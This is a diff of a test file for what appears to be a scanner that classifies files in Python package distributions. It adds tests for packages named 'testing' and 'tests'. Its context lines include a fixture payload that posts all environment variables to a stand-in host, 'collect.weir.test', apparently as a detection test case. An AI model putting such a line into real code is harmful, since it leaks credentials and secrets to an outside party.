@@ -101,6 +101,26 @@ describe('what runs when', () => {
   });
 });
 
+describe('a package that is called as what nobody installs is', () => {
+  test('is what its distribution is for when it has no other', async () => {
+    expect(
+      await stagesOf(
+        { 'PKG-INFO': METADATA, 'setup.py': '', 'testing/__init__.py': '', 'testing/docs/x.py': '' },
+        'testing-1.2.0.tar.gz',
+      ),
+    ).toMatchObject({ 'testing/__init__.py': 'import', 'testing/docs/x.py': 'dead' });
+  });
+
+  test('lies aside beside another one', async () => {
+    expect(
+      await stagesOf(
+        { 'PKG-INFO': METADATA, 'acme/__init__.py': '', 'tests/__init__.py': '' },
+        'acme-1.2.0.tar.gz',
+      ),
+    ).toMatchObject({ 'acme/__init__.py': 'import', 'tests/__init__.py': 'dead' });
+  });
+});
+
 describe('a verdict', () => {
   const payload = Buffer.from(
     'import os, requests\nrequests.post("https://collect.weir.test", json=dict(os.environ))',
